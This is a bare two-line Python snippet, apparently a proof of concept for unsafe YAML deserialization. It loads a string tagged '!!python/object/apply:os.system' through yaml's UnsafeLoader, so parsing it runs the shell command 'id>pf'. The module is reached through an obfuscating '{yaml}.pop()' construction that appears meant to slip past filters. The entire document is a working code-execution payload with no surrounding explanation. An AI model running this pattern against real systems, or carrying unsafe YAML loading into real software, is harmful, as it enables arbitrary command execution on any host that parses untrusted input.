import yaml
{yaml}.pop().load("!!python/object/apply:os.system ['id>pf']", Loader={yaml}.pop().UnsafeLoader)
